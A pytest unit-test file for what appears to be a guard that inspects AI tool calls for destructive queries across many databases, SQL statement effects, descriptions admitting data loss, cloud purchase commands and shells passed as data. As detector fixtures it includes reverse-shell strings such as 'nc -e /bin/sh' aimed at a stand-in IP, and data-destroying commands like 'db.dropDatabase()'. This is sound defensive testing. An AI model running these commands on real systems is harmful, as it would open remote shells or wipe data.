"""Queries other than SQL, statements for a tool that reads, losses owned up to, purchases, shells as data."""

from __future__ import annotations

from typing import Any

import pytest

from host.inspect.claims.erasing import owns_up
from host.inspect.code.find import find_code
from host.inspect.destructive.purchases import judge
from host.inspect.sql.find import find_sql
from host.inspect.tools.acts import of_sql
from host.inspect.tools.queries import change_of
from host.model import Severity
from tests.support.effort import BOUND, effort
from tests.unit.host.inspect.making import subject, worst

QUERIES: tuple[tuple[str, str, str, Severity | None], ...] = (
    ("neo4j", "query", "MATCH (n) DETACH DELETE n", Severity.HIGH),
    ("memgraph", "query", "MATCH (u:User {mail: 'k'}) SET u.role = 'admin'", Severity.MEDIUM),
    ("neptune", "query", "g.V().hasLabel('device').drop()", Severity.HIGH),
    ("fuseki", "update", "INSERT DATA { <urn:a> <urn:b> <urn:c> }", Severity.MEDIUM),
    ("adx", "command", ".drop table SignInLogs", Severity.HIGH),
    ("astra", "query", "DROP KEYSPACE telemetry", Severity.HIGH),
    ("influx", "query", 'from(bucket: "a") |> range(start: -1h) |> to(bucket: "b")', Severity.MEDIUM),
    ("surrealdb", "query", "REMOVE TABLE invoice;", Severity.HIGH),
    ("arango", "query", "FOR u IN users FILTER u.a == 1 REMOVE u IN users", Severity.MEDIUM),
    ("mongodb", "script", "db.orders.deleteMany({})", Severity.HIGH),
    ("api", "query", "mutation { delete_invoices(where: {}) { affected_rows } }", Severity.HIGH),
    ("elastic", "path", "/logs/_update_by_query", Severity.MEDIUM),
    ("shell", "command", "mongosh shop --eval \"db.dropDatabase()\"", Severity.HIGH),
    ("neo4j", "query", "MATCH (n) WHERE n.name = 'DELETE n' RETURN n", None),
    ("adx", "query", "SignInLogs | where Action == 'delete' | count", None),
    ("adx", "query", ".show tables", None),
    ("mongodb", "script", "db.orders.find({status: 'deleted'})", None),
    ("github", "query", "mutation { addStar(input: {starrableId: 4}) { id } }", None),
    ("docs", "query", "how does MATCH (n) DETACH DELETE n work", None),
)  # fmt: skip


@pytest.mark.parametrize(("server", "key", "query", "grave"), QUERIES)
def test_a_query_that_writes_is_told_in_any_language(server: str, key: str, query: str, grave: Severity | None) -> None:
    assert worst(find_sql(subject({key: query}, "run", server=server)), "writes-sql") is grave


@pytest.mark.parametrize(
    ("statement", "does"),
    [
        ("MERGE a.b t USING c s ON t.i = s.i WHEN MATCHED THEN UPDATE SET q = 1", "writes"),
        ("CALL archive_old(2023)", "writes"),
        ("DO $$ BEGIN PERFORM p(); END $$", "writes"),
        ("COPY stock FROM 's.csv'", "writes"),
        ("SELECT * INTO b FROM a", "writes"),
        ("WITH o AS (SELECT 1) DELETE FROM t USING o", "deletes"),
        ("EXPLAIN ANALYZE DELETE FROM t", "deletes"),
        ("MATCH (n) SET n.a = 1", "writes"),
        ("EXPLAIN DELETE FROM t WHERE a = 1", ""),
        ("EXPLAIN SELECT 1 -- DELETE FROM t", ""),
        ("SELECT 1 /* drop table later */", ""),
        ("SELECT * FROM t WHERE id = 4 FOR UPDATE", ""),
        ("SHOW CREATE TABLE t", ""),
        ("COPY (SELECT 1) TO STDOUT", ""),
        ("update on the drop in sales", ""),
    ],
)
def test_a_statement_is_known_by_what_it_does(statement: str, does: str) -> None:
    assert of_sql(statement) == does


@pytest.mark.parametrize(
    ("description", "owns"),
    [
        ("Tables that are not in the file are dropped with their data.", True),
        ("Konten, die dort fehlen, werden entfernt.", True),
        ("Les fichiers absents de la source sont effacés.", True),
        ("Los artículos que no figuran en la lista se eliminan.", True),
        ("Reloads it and discards whatever was there.", True),
        ("Existing rows are never overwritten; nothing is deleted.", False),
        ("Es wird nichts gelöscht.", False),
        ("Aucun fichier n'est supprimé.", False),
        ("Sorts the list; duplicates are removed.", False),
    ],
)
def test_a_description_owns_up_to_a_loss(description: str, owns: bool) -> None:
    assert bool(owns_up(description)) is owns


@pytest.mark.parametrize(
    ("command", "buys"),
    [
        ("aws ec2 purchase-reserved-instances-offering --instance-count 40", True),
        ("gcloud compute commitments create c --plan=36-month", True),
        ("az reservations reservation-order purchase --sku d8", True),
        ("vercel domains buy a.example", True),
        ("doctl compute droplet create w --count 80", True),
        ("aws ec2 describe-reserved-instances-offerings", False),
        ("aws ec2 purchase-reserved-instances-offering --dry-run", False),
        ("gcloud compute commitments list", False),
        ("aws ec2 run-instances --count 1", False),
    ],
)
def test_a_purchase_is_told(command: str, buys: bool) -> None:
    assert bool(list(judge(command))) is buys


@pytest.mark.parametrize(
    ("data", "runs"),
    [
        ({"input": "bash -c 'nohup nc -e /bin/sh 203.0.113.4 9 &'"}, True),
        ({"target": "/bin/bash -c 'id > /tmp/o'"}, True),
        ({"value": "nc 203.0.113.4 9 -e /bin/sh"}, True),
        ({"value": "bash and sh are shells"}, False),
        ({"font": "/bin/bash mono"}, False),
    ],
)
def test_a_shell_as_data_is_told(data: dict[str, Any], runs: bool) -> None:
    assert (worst(find_code(subject({"data": data}, "call_service", server="house")), "runs-code") is not None) is runs


@pytest.mark.parametrize(
    "text", ["match (a) ", "mutation{a ", "insert {a ", "update a with ", "unwind ", "g.v(", "use a db."]
)
def test_looking_takes_time_by_length_alone(text: str) -> None:
    assert effort(lambda: change_of(text * 3_000 + "delete")) < BOUND
